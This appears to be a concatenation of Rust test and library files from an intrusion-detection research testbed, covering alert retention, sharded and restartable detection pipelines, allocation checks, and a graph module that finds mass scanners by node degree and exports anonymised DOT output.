                        simnet::time::SimTime::from_secs(1_000 + 600 * round as u64),
                        kind,
                        Entity::Address(src),
                    )
                    .with_src(src)
                    .with_dst(victim),
                );
            }
        }

        let run = |order: &[usize]| {
            let mut tagger = detect::correlate::correlated_tagger(
                detect::train::toy_training_model(),
                detect::TaggerConfig::default(),
            );
            for &i in order {
                tagger.observe(&batch[i]);
            }
            let c = tagger.correlator();
            (c.partition(), {
                let mut links = c.link_pairs();
                links.sort();
                links
            })
        };

        let identity: Vec<usize> = (0..batch.len()).collect();
        let (base_partition, base_links) = run(&identity);
        prop_assert!(!base_partition.is_empty(), "shared victim links campaigns");

        // Fisher–Yates permutations within each equal-timestamp round.
        let mut rng = SimRng::seed(seed);
        for _ in 0..4 {
            let mut order = identity.clone();
            for round in 0..rounds {
                let lo = round * entities;
                for j in (1..entities).rev() {
                    let k = rng.index(j + 1);
                    order.swap(lo + j, lo + k);
                }
            }
            let (partition, links) = run(&order);
            prop_assert_eq!(&partition, &base_partition);
            prop_assert_eq!(&links, &base_links);
        }
    }

    /// The rule-based baseline detector shards identically too (its
    /// per-entity session state follows the same entity partition).
    #[test]
    fn baseline_detector_shards_identically(
        seed in 0u64..10_000,
        shards in 2usize..8,
        execs in 1usize..400,
        users in 1usize..25,
    ) {
        let records = workload(seed, 100, execs, users);
        let build = || {
            PipelineBuilder::new()
                .rules_detector(detect::RuleBasedDetector::with_default_rules())
                .batch_size(64)
                .detect_shards(shards)
        };
        let inline = build().build().run_inline(records.clone());
        let sharded = build().build().run_sharded(records);
        assert_reports_identical(&inline, &sharded);
    }
}
