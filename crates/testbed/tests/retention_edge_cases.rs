//! Edge-case unit tests for [`AlertRetention`] and the stage adapters:
//! cap boundaries (exactly `cap`, `cap + 1`, `cap == 0`), exact
//! `alerts_dropped` accounting through full pipeline runs, and empty-batch
//! behaviour of every stage adapter.

use alertlib::alert::{Alert, Entity};
use alertlib::taxonomy::AlertKind;
use simnet::time::SimTime;
use telemetry::record::LogRecord;
use testbed::stage::adapters::{
    DetectOutcome, DetectorStage, FilterStage, MonitorStage, ResponseStage, SymbolizeStage,
};
use testbed::stage::{AlertRetention, PipelineBuilder, Stage};

fn alert(t: u64) -> Alert {
    Alert::new(
        SimTime::from_secs(t),
        AlertKind::DownloadSensitive,
        Entity::User(format!("u{t}").into()),
    )
}

#[test]
fn retention_exactly_at_cap_drops_nothing() {
    let mut r = AlertRetention::new(5);
    for t in 0..5 {
        r.push(alert(t));
    }
    assert_eq!(r.len(), 5);
    assert_eq!(r.dropped(), 0);
    assert!(!r.is_empty());
    let kept: Vec<u64> = r.into_vec().iter().map(|a| a.ts.as_secs()).collect();
    assert_eq!(kept, vec![0, 1, 2, 3, 4], "insertion order preserved");
}

#[test]
fn retention_one_past_cap_drops_exactly_the_oldest() {
    let mut r = AlertRetention::new(5);
    for t in 0..6 {
        r.push(alert(t));
    }
    assert_eq!(r.len(), 5);
    assert_eq!(r.dropped(), 1);
    let kept: Vec<u64> = r.into_vec().iter().map(|a| a.ts.as_secs()).collect();
    assert_eq!(kept, vec![1, 2, 3, 4, 5], "only the oldest went");
}

#[test]
fn retention_cap_zero_discards_without_counting_drops() {
    let mut r = AlertRetention::new(0);
    assert_eq!(r.cap(), 0);
    assert!(r.is_empty());
    for t in 0..7 {
        r.push(alert(t));
    }
    assert_eq!(r.len(), 0);
    assert!(r.is_empty());
    assert_eq!(
        r.dropped(),
        0,
        "retention-off must not masquerade as cap overflow"
    );
    assert_eq!(r.discarded(), 7, "retention-off still accounts every alert");
    assert_eq!(r.iter().count(), 0);
    assert!(r.into_vec().is_empty());
}

#[test]
fn retention_cap_one_is_a_latest_alert_register() {
    let mut r = AlertRetention::new(1);
    for t in 0..100 {
        r.push(alert(t));
    }
    assert_eq!(r.len(), 1);
    assert_eq!(r.dropped(), 99);
    assert_eq!(r.iter().next().unwrap().ts.as_secs(), 99);
}

/// `alerts_dropped` accounting is exact through a full pipeline run: every
/// admitted alert is either retained or counted as dropped, for caps
/// below, at, and above the admitted count.
#[test]
fn dropped_counter_is_exact_through_pipeline_runs() {
    let mut rng = simnet::rng::SimRng::seed(42);
    let cfg = scenario::stream::RecordStreamConfig {
        scan_records: 300,
        benign_flows: 100,
        exec_records: 400,
        users: 20,
        ..scenario::stream::RecordStreamConfig::default()
    };
    let records = scenario::stream::record_stream(&cfg, &mut rng);
    let admitted = PipelineBuilder::new()
        .alert_retention(usize::MAX)
        .build()
        .run_inline(records.clone())
        .stats
        .admitted;
    assert!(admitted > 10, "workload must admit alerts: {admitted}");
    for cap in [
        0,
        1,
        admitted as usize - 1,
        admitted as usize,
        admitted as usize + 1,
    ] {
        let report = PipelineBuilder::new()
            .alert_retention(cap)
            .build()
            .run_inline(records.clone());
        assert_eq!(report.stats.admitted, admitted, "same workload");
        assert_eq!(
            report.retained_alerts.len() as u64 + report.alerts_dropped + report.alerts_discarded,
            admitted,
            "cap {cap}: retained + dropped + discarded must equal admitted"
        );
        assert_eq!(
            report.retained_alerts.len(),
            cap.min(admitted as usize),
            "cap {cap}: retained count"
        );
        if cap == 0 {
            assert_eq!(report.alerts_dropped, 0, "retention-off drops nothing");
            assert_eq!(
                report.alerts_discarded, admitted,
                "retention-off discards everything"
            );
        } else {
            assert_eq!(
                report.alerts_dropped,
                admitted.saturating_sub(cap as u64),
                "cap {cap}: dropped count"
            );
            assert_eq!(
                report.alerts_discarded, 0,
                "enabled retention discards nothing"
            );
        }
    }
}

#[test]
fn symbolize_stage_empty_batch_is_a_noop() {
    let mut stage = SymbolizeStage::new(alertlib::Symbolizer::with_defaults());
    let mut out = Vec::new();
    stage.process_batch(&[], &mut out);
    assert!(out.is_empty());
    assert_eq!(stage.symbolizer().alerts_emitted(), 0);
    stage.flush(&mut out);
    assert!(out.is_empty(), "symbolizer holds no windowed state");
}

#[test]
fn filter_stage_empty_batch_touches_no_counters() {
    let mut stage = FilterStage::new(alertlib::ScanFilter::default());
    let mut out = Vec::new();
    stage.process_batch(&[], &mut out);
    let mut empty_batch = Vec::new();
    stage.admit_drain(&mut empty_batch, &mut out);
    stage.flush(&mut out);
    assert!(out.is_empty());
    let stats = stage.stats();
    assert_eq!(stats.seen, 0);
    assert_eq!(stats.admitted, 0);
    assert_eq!(stats.suppressed, 0);
}

#[test]
fn detector_stages_empty_batch_emit_no_outcomes() {
    for mut stage in [
        DetectorStage::tagger(detect::AttackTagger::new(
            detect::train::toy_training_model(),
            detect::TaggerConfig::default(),
        )),
        DetectorStage::rules(detect::RuleBasedDetector::with_default_rules()),
        DetectorStage::critical(),
    ] {
        let mut out: Vec<DetectOutcome> = Vec::new();
        stage.process_batch(&[], &mut out);
        let mut empty_batch = Vec::new();
        stage.process_drain(&mut empty_batch, &mut out);
        stage.flush(&mut out);
        assert!(out.is_empty(), "{}: outcomes from nothing", stage.name());
        if let Some(tagger) = stage.as_tagger() {
            assert_eq!(tagger.tracked_entities(), 0);
        }
    }
}

#[test]
fn response_stage_empty_batch_sends_nothing() {
    let bhr = bhr::api::BhrHandle::new();
    let mut stage = ResponseStage::new(bhr.clone(), true, None, "attack-tagger");
    let mut notes = Vec::new();
    stage.respond(None, &[], &mut notes);
    stage.process_batch(&[], &mut notes);
    stage.flush(&mut notes);
    assert!(notes.is_empty());
    assert_eq!(stage.blocked_sources(), 0);
    assert_eq!(bhr.stats().blocks_added, 0);
}

#[test]
fn monitor_stage_empty_batch_produces_no_records() {
    let topo = simnet::topology::NcsaTopologyBuilder::default().build();
    let mut stage =
        MonitorStage::new(telemetry::MonitorHub::standard().into_monitors()).with_topology(topo);
    let mut records: Vec<LogRecord> = Vec::new();
    stage.process_batch(&[], &mut records);
    assert!(records.is_empty());
    stage.flush(&mut records);
    assert!(
        records.is_empty(),
        "no observations, no windowed scan notices"
    );
}

/// Empty record streams leave retention untouched on every executor.
#[test]
fn empty_stream_retention_is_empty_everywhere() {
    for kind in [
        testbed::ExecutorKind::Inline,
        testbed::ExecutorKind::Threaded,
        testbed::ExecutorKind::Sharded,
    ] {
        let report = PipelineBuilder::new()
            .executor(kind)
            .alert_retention(8)
            .build()
            .run(Vec::<LogRecord>::new());
        assert!(report.retained_alerts.is_empty());
        assert_eq!(report.alerts_dropped, 0);
        assert_eq!(report.alerts_discarded, 0);
    }
}
