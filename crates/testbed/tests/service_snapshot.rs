//! Service-mode restart properties (proptest):
//!
//! On randomized adversarial campaign workloads, snapshotting a tenant
//! mid-stream, serializing the snapshot through its JSON wire format,
//! restoring it into a *fresh* service process, and replaying the stream
//! tail must reproduce the uninterrupted run exactly: same cumulative
//! stream counters, same detection stream, same campaign graph. And the
//! per-entity state budget (`detect_max_entities`) must be
//! detection-neutral: a bounded pipeline with eviction active yields
//! byte-identical detections to the unbounded one.

use proptest::prelude::*;
use scenario::mutate::{generate_campaign, CampaignConfig, MutationConfig};
use scenario::stream::{record_stream, RecordStreamConfig};
use simnet::intern::{SymScope, TenantId};
use simnet::rng::SimRng;
use simnet::time::SimDuration;
use telemetry::record::LogRecord;
use testbed::stage::{BuiltPipeline, PipelineBuilder, StreamReport};
use testbed::{ServiceConfig, ServiceHandle, ServiceSnapshot};

fn campaign_records(seed: u64, sessions: usize, lateral_prob: f64) -> Vec<LogRecord> {
    let cfg = CampaignConfig {
        sessions,
        horizon: SimDuration::from_hours(24),
        mutation: MutationConfig {
            lateral_prob,
            ..MutationConfig::default()
        },
        background: Some(RecordStreamConfig {
            scan_records: 200,
            benign_flows: 80,
            exec_records: 150,
            users: 20,
            ..RecordStreamConfig::default()
        }),
        ..CampaignConfig::default()
    };
    generate_campaign(&cfg, &mut SimRng::seed(seed)).records
}

fn service_factory() -> impl FnMut(TenantId, SymScope) -> BuiltPipeline + Send + 'static {
    |_, scope| {
        PipelineBuilder::new()
            .tagger(detect::AttackTagger::new(
                detect::train::toy_training_model(),
                detect::TaggerConfig::default(),
            ))
            .correlation(detect::CorrelationPolicy::default())
            .scope(scope)
            .build()
    }
}

fn ingest_all(service: &ServiceHandle, tenant: TenantId, records: &[LogRecord], batch: usize) {
    for chunk in records.chunks(batch.max(1)) {
        service
            .ingest(tenant, chunk.to_vec())
            .expect("worker alive");
    }
}

fn detection_keys(report: &StreamReport) -> Vec<String> {
    report
        .notifications
        .iter()
        .map(|n| {
            format!(
                "{}|{}|{}|{}",
                n.entity, n.detection.ts, n.detection.trigger, n.detection.stage
            )
        })
        .collect()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(8))]

    /// Snapshot → JSON → restore → replay-tail ≡ the uninterrupted run.
    #[test]
    fn restart_from_json_snapshot_loses_no_detections(
        seed in 0u64..100_000,
        sessions in 2usize..16,
        lateral_x10 in 0u64..10,
        split_pct in 1usize..100,
        batch in 1usize..200,
    ) {
        let records = campaign_records(seed, sessions, lateral_x10 as f64 / 10.0);
        let tenant = TenantId(3);
        let split = records.len() * split_pct / 100;
        let (head, tail) = records.split_at(split);

        // Reference: one service, never restarted.
        let uninterrupted = ServiceHandle::spawn(ServiceConfig::default(), service_factory());
        ingest_all(&uninterrupted, tenant, &records, batch);
        let mut reports = uninterrupted.shutdown();
        prop_assert_eq!(reports.len(), 1);
        let full = reports.pop().unwrap().1;

        // Interrupted: ingest the head, snapshot, kill the process...
        let first = ServiceHandle::spawn(ServiceConfig::default(), service_factory());
        ingest_all(&first, tenant, head, batch);
        let snap = first.snapshot(tenant).expect("live tenant snapshots");
        let mut head_reports = first.shutdown();
        let head_report = head_reports.pop().unwrap().1;

        // ...round-trip the snapshot through its wire format...
        let wire = snap.to_json();
        let restored = ServiceSnapshot::from_json(&wire).expect("wire format round-trips");
        prop_assert_eq!(&restored, &snap);

        // ...and restore into a fresh service, replaying only the tail.
        let second = ServiceHandle::spawn(ServiceConfig::default(), service_factory());
        second.restore(restored).expect("snapshot fits the factory pipeline");
        ingest_all(&second, tenant, tail, batch);
        let mut tail_reports = second.shutdown();
        let tail_report = tail_reports.pop().unwrap().1;

        // Counters are cumulative across the restart; detections are the
        // prefix's plus the tail's, byte for byte; the campaign graph is
        // whole.
        prop_assert_eq!(tail_report.stats, full.stats);
        prop_assert_eq!(&tail_report.filter, &full.filter);
        let mut stitched = detection_keys(&head_report);
        stitched.extend(detection_keys(&tail_report));
        prop_assert_eq!(stitched, detection_keys(&full));
        prop_assert_eq!(&tail_report.campaigns, &full.campaigns);
        prop_assert_eq!(tail_report.correlated_promotions, full.correlated_promotions);
        prop_assert_eq!(tail_report.correlated_confirmations, full.correlated_confirmations);
        prop_assert_eq!(tail_report.duplicates_suppressed, full.duplicates_suppressed);
    }

    /// The per-entity state budget evicts aggressively but never changes
    /// what is detected — bounded and unbounded pipelines agree on the
    /// whole report, on both the inline and sharded executors.
    #[test]
    fn entity_budget_is_detection_neutral(
        seed in 0u64..100_000,
        budget in 8usize..64,
        scans in 0usize..400,
        execs in 100usize..500,
        users in 30usize..80,
        shards in 1usize..6,
    ) {
        let cfg = RecordStreamConfig {
            scan_records: scans,
            scanners: 1 + seed as usize % 7,
            benign_flows: scans / 2,
            exec_records: execs,
            users,
            ..RecordStreamConfig::default()
        };
        let records = record_stream(&cfg, &mut SimRng::seed(seed));
        let build = |max_entities: usize| {
            PipelineBuilder::new()
                .tagger(detect::AttackTagger::new(
                    detect::train::toy_training_model(),
                    detect::TaggerConfig::default(),
                ))
                .detect_shards(shards)
                .detect_max_entities(max_entities)
                .build()
        };

        let unbounded = build(0).run_inline(records.clone());
        let bounded = build(budget).run_inline(records.clone());
        prop_assert_eq!(bounded.stats, unbounded.stats);
        prop_assert_eq!(detection_keys(&bounded), detection_keys(&unbounded));
        prop_assert_eq!(&bounded.notifications, &unbounded.notifications);
        prop_assert_eq!(bounded.duplicates_suppressed, unbounded.duplicates_suppressed);

        let bounded_sharded = build(budget).run_sharded(records);
        prop_assert_eq!(bounded_sharded.stats, bounded.stats);
        prop_assert_eq!(
            detection_keys(&bounded_sharded),
            detection_keys(&bounded)
        );
    }
}
