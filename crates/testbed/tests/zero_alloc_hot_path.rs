//! Asserts the interning refactor's core contract: after warmup, the
//! symbolize → filter → detect hot path performs **zero** heap allocations
//! per record.
//!
//! "Warmup" means one pass over the workload — it interns nothing (the
//! generators pre-intern), but it does populate the symbolizer's memo
//! caches, the filter's `(source, kind)` windows, the tagger's per-entity
//! posterior states, and the alert buffer's capacity. Every subsequent
//! record then flows `LogRecord` → `Alert` (`Copy`, `MessageSpec` message)
//! → filter admit (integer-keyed window lookup) → `AttackTagger::observe`
//! (integer `EntityId` key, reused scratch) without touching the
//! allocator.

use scenario::stream::{record_stream, RecordStreamConfig};
use simnet::alloc_count::{allocations, CountingAllocator};
use simnet::rng::SimRng;
use telemetry::record::LogRecord;

#[global_allocator]
static GLOBAL: CountingAllocator = CountingAllocator;

/// Serializes measurements: the test harness runs tests on parallel
/// threads and the allocation counter is process-global.
static MEASURE: std::sync::Mutex<()> = std::sync::Mutex::new(());

fn serialized<T>(f: impl FnOnce() -> T) -> T {
    let _guard = MEASURE.lock().unwrap_or_else(|p| p.into_inner());
    f()
}

fn workload() -> Vec<LogRecord> {
    let cfg = RecordStreamConfig {
        scan_records: 3_000,
        benign_flows: 1_000,
        exec_records: 3_000,
        users: 60,
        ..RecordStreamConfig::default()
    };
    record_stream(&cfg, &mut SimRng::seed(0x5EED))
}

#[test]
fn symbolize_filter_observe_steady_state_allocates_nothing() {
    serialized(|| {
        let records = workload();
        let mut sym = alertlib::Symbolizer::with_defaults();
        let mut filt = alertlib::ScanFilter::default();
        let mut tagger = detect::AttackTagger::new(
            detect::train::toy_training_model(),
            detect::TaggerConfig::default(),
        );
        let mut alerts = Vec::with_capacity(64);

        // Warmup: populates memo caches, filter windows, per-entity
        // detector states, and buffer capacity.
        let mut warm_admitted = 0u64;
        for r in &records {
            alerts.clear();
            sym.symbolize_into(r, &mut alerts);
            for a in &alerts {
                if filt.admit(a) {
                    warm_admitted += 1;
                    tagger.observe(a);
                }
            }
        }
        assert!(warm_admitted > 0, "sanity: the workload produces admits");
        assert!(tagger.tracked_entities() > 10, "sanity: entities tracked");

        // Steady state: the full hot path must not allocate at all.
        let (allocs, _) = allocations(|| {
            for r in &records {
                alerts.clear();
                sym.symbolize_into(r, &mut alerts);
                for a in &alerts {
                    if filt.admit(a) {
                        tagger.observe(a);
                    }
                }
            }
        });
        assert_eq!(
            allocs,
            0,
            "steady-state symbolize_into → filter → observe must not allocate \
             ({} records)",
            records.len()
        );
    });
}

#[test]
fn new_entities_allocate_then_settle() {
    serialized(|| {
        // A fresh entity costs bounded one-time state (posterior vector +
        // map growth); the very next alert from it is free again.
        let mut tagger = detect::AttackTagger::new(
            detect::train::toy_training_model(),
            detect::TaggerConfig::default(),
        );
        let alert = |user: &str| {
            alertlib::Alert::new(
                simnet::time::SimTime::from_secs(1),
                alertlib::AlertKind::LoginSuccess,
                alertlib::Entity::User(user.into()),
            )
        };
        let (first, _) = allocations(|| tagger.observe(&alert("fresh-entity-a")));
        assert!(first > 0, "first sight of an entity builds its state");
        let (repeat, _) = allocations(|| {
            for _ in 0..100 {
                tagger.observe(&alert("fresh-entity-a"));
            }
        });
        assert_eq!(repeat, 0, "tracked entities are allocation-free");
    });
}

#[test]
fn interned_record_generation_reuses_palettes() {
    serialized(|| {
        // Generating the same stream twice interns nothing new the second
        // time: the per-record cost is the records vector itself, not
        // per-record strings. (~6 allocations per 1000 records of slack
        // covers the generator's palette Vecs and the sort's scratch.)
        let first = workload();
        let (allocs, second) = allocations(workload);
        assert_eq!(first, second, "deterministic regeneration");
        let per_record = allocs as f64 / second.len() as f64;
        assert!(
            per_record < 0.05,
            "regeneration should be palette-backed: {allocs} allocs for {} records",
            second.len()
        );
    });
}
