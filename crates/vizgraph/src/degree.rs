//! Degree analytics: finding the scanner in the haystack.
//!
//! Fig. 1's annotation ("the scanner is located at the center") falls out
//! of structure: the mass scanner is the extreme-degree hub; the real
//! attack is a low-degree node touching internal targets. These helpers
//! compute the supporting statistics.

use serde::{Deserialize, Serialize};

use crate::graph::{Graph, NodeGroup};

/// A `(node, degree)` ranking entry.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct HubEntry {
    pub node: u32,
    pub label: String,
    pub degree: usize,
}

/// Top-k nodes by degree, descending.
pub fn top_hubs(graph: &Graph, k: usize) -> Vec<HubEntry> {
    let mut entries: Vec<HubEntry> = (0..graph.node_count() as u32)
        .map(|i| HubEntry {
            node: i,
            label: graph.node(i).label.clone(),
            degree: graph.degree(i),
        })
        .collect();
    entries.sort_by(|a, b| b.degree.cmp(&a.degree).then_with(|| a.node.cmp(&b.node)));
    entries.truncate(k);
    entries
}

/// Degree distribution as `(degree, count)` pairs, ascending by degree.
pub fn degree_histogram(graph: &Graph) -> Vec<(usize, usize)> {
    let mut counts: std::collections::BTreeMap<usize, usize> = std::collections::BTreeMap::new();
    for i in 0..graph.node_count() as u32 {
        *counts.entry(graph.degree(i)).or_insert(0) += 1;
    }
    counts.into_iter().collect()
}

/// Gini-style hub dominance: fraction of all edge endpoints touching the
/// single largest hub. Near 0.5 for a pure star, near 0 for a random graph.
pub fn hub_dominance(graph: &Graph) -> f64 {
    if graph.edge_count() == 0 {
        return 0.0;
    }
    let max_degree = (0..graph.node_count() as u32)
        .map(|i| graph.degree(i))
        .max()
        .unwrap_or(0);
    max_degree as f64 / (2.0 * graph.edge_count() as f64)
}

/// Structural scanner detection: nodes whose degree exceeds
/// `threshold × mean_degree`. Returns them ranked.
pub fn structural_scanners(graph: &Graph, threshold: f64) -> Vec<HubEntry> {
    if graph.node_count() == 0 {
        return Vec::new();
    }
    let mean = 2.0 * graph.edge_count() as f64 / graph.node_count() as f64;
    top_hubs(graph, graph.node_count())
        .into_iter()
        .filter(|h| h.degree as f64 > threshold * mean.max(1e-9))
        .collect()
}

/// Auto-annotate a graph from structure: the top hub becomes
/// `MassScanner`, other high-degree sources become `Scanner`.
pub fn annotate_scanners(graph: &mut Graph, threshold: f64) -> usize {
    let scanners = structural_scanners(graph, threshold);
    let mut annotated = 0;
    for (rank, hub) in scanners.iter().enumerate() {
        let group = if rank == 0 {
            NodeGroup::MassScanner
        } else {
            NodeGroup::Scanner
        };
        let label = hub.label.clone();
        if graph.annotate(&label, group) {
            annotated += 1;
        }
    }
    annotated
}

#[cfg(test)]
mod tests {
    use super::*;

    fn scanner_graph() -> Graph {
        let mut g = Graph::new();
        let hub = g.add_node("103.102.8.9", NodeGroup::External);
        for i in 0..200 {
            let t = g.add_node(format!("141.142.2.{i}"), NodeGroup::Internal);
            g.add_edge(hub, t);
        }
        // A small second scanner.
        let s2 = g.add_node("77.72.3.4", NodeGroup::External);
        for i in 0..30 {
            let t = g.add_node(format!("141.142.9.{i}"), NodeGroup::Internal);
            g.add_edge(s2, t);
        }
        // Legit pairs.
        for i in 0..50 {
            let a = g.add_node(format!("legit-a{i}"), NodeGroup::External);
            let b = g.add_node(format!("legit-b{i}"), NodeGroup::Internal);
            g.add_edge(a, b);
        }
        g
    }

    #[test]
    fn top_hub_is_the_mass_scanner() {
        let g = scanner_graph();
        let hubs = top_hubs(&g, 2);
        assert_eq!(hubs[0].label, "103.102.8.9");
        assert_eq!(hubs[0].degree, 200);
        assert_eq!(hubs[1].label, "77.72.3.4");
    }

    #[test]
    fn histogram_shape() {
        let g = scanner_graph();
        let hist = degree_histogram(&g);
        // Most nodes have degree 1 (scan targets + legit endpoints).
        let ones = hist.iter().find(|(d, _)| *d == 1).map(|(_, c)| *c).unwrap();
        assert!(ones > 300);
        assert!(hist.iter().any(|(d, _)| *d == 200));
    }

    #[test]
    fn dominance_reflects_star_weight() {
        let g = scanner_graph();
        let d = hub_dominance(&g);
        assert!(d > 0.3, "mass scanner dominates: {d}");
        let empty = Graph::new();
        assert_eq!(hub_dominance(&empty), 0.0);
    }

    #[test]
    fn auto_annotation_marks_scanners() {
        let mut g = scanner_graph();
        let n = annotate_scanners(&mut g, 5.0);
        assert_eq!(n, 2);
        let hub_id = g.id_of("103.102.8.9").unwrap();
        assert_eq!(g.node(hub_id).group, NodeGroup::MassScanner);
        let s2 = g.id_of("77.72.3.4").unwrap();
        assert_eq!(g.node(s2).group, NodeGroup::Scanner);
    }
}
