//! Graphviz DOT import/export.
//!
//! §II-B prints the connection data in DOT: each line a
//! `src -> dst` pair with addresses anonymized to their first two octets
//! (`103.102. -> 141.142.`). The writer reproduces that format exactly;
//! the parser reads it back for round-trip tests and external data.

use std::fmt::Write as _;

use crate::graph::{Graph, NodeGroup};

/// Export options.
#[derive(Debug, Clone, Copy)]
pub struct DotOptions {
    /// Anonymize IPv4-looking labels to `a.b.` (paper's privacy format).
    pub anonymize: bool,
    /// Emit fill colors per node group.
    pub colors: bool,
}

impl Default for DotOptions {
    fn default() -> Self {
        DotOptions {
            anonymize: true,
            colors: false,
        }
    }
}

fn anonymize_label(label: &str) -> String {
    if let Ok(addr) = label.parse::<std::net::Ipv4Addr>() {
        simnet::addr::anonymize(addr)
    } else {
        label.to_string()
    }
}

fn color_of(group: NodeGroup) -> &'static str {
    match group {
        NodeGroup::MassScanner => "orange",
        NodeGroup::Scanner => "gold",
        NodeGroup::Attacker => "red",
        NodeGroup::Target => "blue",
        NodeGroup::Internal => "lightblue",
        NodeGroup::External => "gray",
    }
}

/// Write a graph as DOT.
pub fn to_dot(graph: &Graph, opts: &DotOptions) -> String {
    let mut out = String::with_capacity(graph.edge_count() * 24 + 64);
    out.push_str("digraph {\n");
    if opts.colors {
        for n in graph.nodes() {
            let label = if opts.anonymize {
                anonymize_label(&n.label)
            } else {
                n.label.clone()
            };
            let _ = writeln!(
                out,
                "  \"{}\" [style=filled, fillcolor={}];",
                label,
                color_of(n.group)
            );
        }
    }
    for &(a, b) in graph.edges() {
        let la = &graph.node(a).label;
        let lb = &graph.node(b).label;
        let (la, lb) = if opts.anonymize {
            (anonymize_label(la), anonymize_label(lb))
        } else {
            (la.clone(), lb.clone())
        };
        let _ = writeln!(out, "  {} -> {}", la, lb);
    }
    out.push_str("}\n");
    out
}

/// Parse a simple DOT digraph (only `a -> b` edge lines are honored).
/// Returns `None` if the text is not a digraph block.
pub fn from_dot(text: &str) -> Option<Graph> {
    let mut lines = text.lines().map(str::trim);
    let header = lines.find(|l| !l.is_empty())?;
    if !header.starts_with("digraph") {
        return None;
    }
    let mut g = Graph::new();
    for line in lines {
        if line.starts_with('}') {
            break;
        }
        let Some((src, dst)) = line.split_once("->") else {
            continue;
        };
        let clean = |s: &str| {
            s.trim()
                .trim_matches('"')
                .trim_end_matches(';')
                .trim_matches('"')
                .to_string()
        };
        let (src, dst) = (clean(src), clean(dst.trim_end_matches(';')));
        if src.is_empty() || dst.is_empty() {
            continue;
        }
        let a = g.add_node(src, NodeGroup::External);
        let b = g.add_node(dst, NodeGroup::External);
        g.add_edge(a, b);
    }
    Some(g)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> Graph {
        let mut g = Graph::new();
        let scanner = g.add_node("103.102.8.9", NodeGroup::MassScanner);
        let t1 = g.add_node("141.142.5.10", NodeGroup::Internal);
        let t2 = g.add_node("141.142.9.20", NodeGroup::Internal);
        g.add_edge(scanner, t1);
        g.add_edge(scanner, t2);
        g
    }

    #[test]
    fn paper_format_exactly() {
        let dot = to_dot(&sample(), &DotOptions::default());
        assert!(dot.starts_with("digraph {\n"));
        assert!(dot.contains("  103.102. -> 141.142.\n"));
        assert!(dot.ends_with("}\n"));
    }

    #[test]
    fn unanonymized_keeps_full_addresses() {
        let dot = to_dot(
            &sample(),
            &DotOptions {
                anonymize: false,
                colors: false,
            },
        );
        assert!(dot.contains("103.102.8.9 -> 141.142.5.10"));
    }

    #[test]
    fn colors_emitted_when_requested() {
        let dot = to_dot(
            &sample(),
            &DotOptions {
                anonymize: false,
                colors: true,
            },
        );
        assert!(dot.contains("fillcolor=orange"));
        assert!(dot.contains("fillcolor=lightblue"));
    }

    #[test]
    fn roundtrip_parse() {
        let dot = to_dot(
            &sample(),
            &DotOptions {
                anonymize: false,
                colors: false,
            },
        );
        let parsed = from_dot(&dot).expect("valid digraph");
        assert_eq!(parsed.node_count(), 3);
        assert_eq!(parsed.edge_count(), 2);
        assert!(parsed.id_of("103.102.8.9").is_some());
    }

    #[test]
    fn parse_paper_sample() {
        let text = r#"digraph {
            194.28. -> 143.219.
            71.201. -> 143.219.
            103.102. -> 141.142.
            103.102. -> 141.142.
        }"#;
        let g = from_dot(text).unwrap();
        // Five distinct anonymized endpoints; the duplicate edge collapses.
        assert_eq!(g.node_count(), 5);
        assert_eq!(g.edge_count(), 3);
    }

    #[test]
    fn non_digraph_rejected() {
        assert!(from_dot("graph { a -- b }").is_none());
        assert!(from_dot("").is_none());
    }
}
