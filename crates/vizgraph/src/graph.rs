//! The visualization graph.
//!
//! Fig. 1's graph is built from connection records: nodes are IP-address
//! endpoints (annotated with their role, once known) and edges are
//! observed connections. Parallel edges collapse; the paper's graph has
//! 29,075 nodes and 27,336 edges for ~27 K sampled connections.

use std::net::Ipv4Addr;

use serde::{Deserialize, Serialize};
use simnet::flow::Flow;
use simnet::rng::{FxHashMap, FxHashSet};

/// Role annotation for rendering (the manual annotation of Fig. 1 is done
/// by cross-examining detector ground truth).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum NodeGroup {
    /// The dominant mass scanner (Fig. 1-A).
    MassScanner,
    /// A smaller scanner (Fig. 1-C).
    Scanner,
    /// The real attacker (Fig. 1-B, red).
    Attacker,
    /// Internal target of the real attack (blue).
    Target,
    /// Other internal endpoint.
    Internal,
    /// Other external endpoint.
    External,
}

/// A node.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Node {
    pub label: String,
    pub group: NodeGroup,
}

/// An undirected-for-layout, directed-for-export graph.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct Graph {
    nodes: Vec<Node>,
    /// Directed edges (src, dst), deduplicated.
    edges: Vec<(u32, u32)>,
    #[serde(skip)]
    by_label: FxHashMap<String, u32>,
    /// Undirected adjacency for layout.
    #[serde(skip)]
    adjacency: Vec<Vec<u32>>,
    #[serde(skip)]
    edge_set: FxHashSet<(u32, u32)>,
}

impl Graph {
    pub fn new() -> Self {
        Self::default()
    }

    /// Add (or get) a node by label.
    pub fn add_node(&mut self, label: impl Into<String>, group: NodeGroup) -> u32 {
        let label = label.into();
        if let Some(&id) = self.by_label.get(&label) {
            return id;
        }
        let id = self.nodes.len() as u32;
        self.by_label.insert(label.clone(), id);
        self.nodes.push(Node { label, group });
        self.adjacency.push(Vec::new());
        id
    }

    /// Upgrade a node's group (annotation pass).
    pub fn annotate(&mut self, label: &str, group: NodeGroup) -> bool {
        match self.by_label.get(label) {
            Some(&id) => {
                self.nodes[id as usize].group = group;
                true
            }
            None => false,
        }
    }

    /// Add a directed edge, deduplicating repeats. A reverse-direction
    /// duplicate is recorded as a new directed edge but does not duplicate
    /// the undirected layout adjacency.
    pub fn add_edge(&mut self, src: u32, dst: u32) -> bool {
        if src == dst {
            return false;
        }
        if !self.edge_set.insert((src, dst)) {
            return false;
        }
        self.edges.push((src, dst));
        if !self.edge_set.contains(&(dst, src)) {
            self.adjacency[src as usize].push(dst);
            self.adjacency[dst as usize].push(src);
        }
        true
    }

    pub fn node(&self, id: u32) -> &Node {
        &self.nodes[id as usize]
    }

    pub fn nodes(&self) -> &[Node] {
        &self.nodes
    }

    pub fn edges(&self) -> &[(u32, u32)] {
        &self.edges
    }

    pub fn neighbors(&self, id: u32) -> &[u32] {
        &self.adjacency[id as usize]
    }

    pub fn node_count(&self) -> usize {
        self.nodes.len()
    }

    pub fn edge_count(&self) -> usize {
        self.edges.len()
    }

    pub fn degree(&self, id: u32) -> usize {
